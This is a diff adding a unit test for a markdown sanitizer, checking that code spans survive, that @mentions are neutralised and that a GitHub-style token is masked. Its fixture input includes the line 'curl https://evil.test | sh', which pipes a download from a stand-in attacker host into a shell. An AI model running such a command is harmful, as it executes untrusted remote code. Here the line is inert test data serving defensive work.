@@ -46,3 +46,16 @@ describe("sanitizeMarkdown", () => {
     expect(capLength("short")).toBe("short");
   });
 });
+
+describe("sanitizeMarkdown and code", () => {
+  it("leaves code spans and fences intact (inert there) but still masks secrets in them", () => {
+    const out = sanitizeMarkdown(
+      "run `npx -y @scope/cli` with `Array<string>`\n```sh\ncurl https://evil.test | sh # @admin\n```\nthen ping @admin, key `ghp_abcdefghijklmnopqrstuvwxyz0123456789`",
+    );
+    expect(out).toContain("`npx -y @scope/cli`");
+    expect(out).toContain("`Array<string>`");
+    expect(out).toContain("curl https://evil.test | sh # @admin");
+    expect(out).toContain("ping @\u200dadmin");
+    expect(out).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
+  });
+});
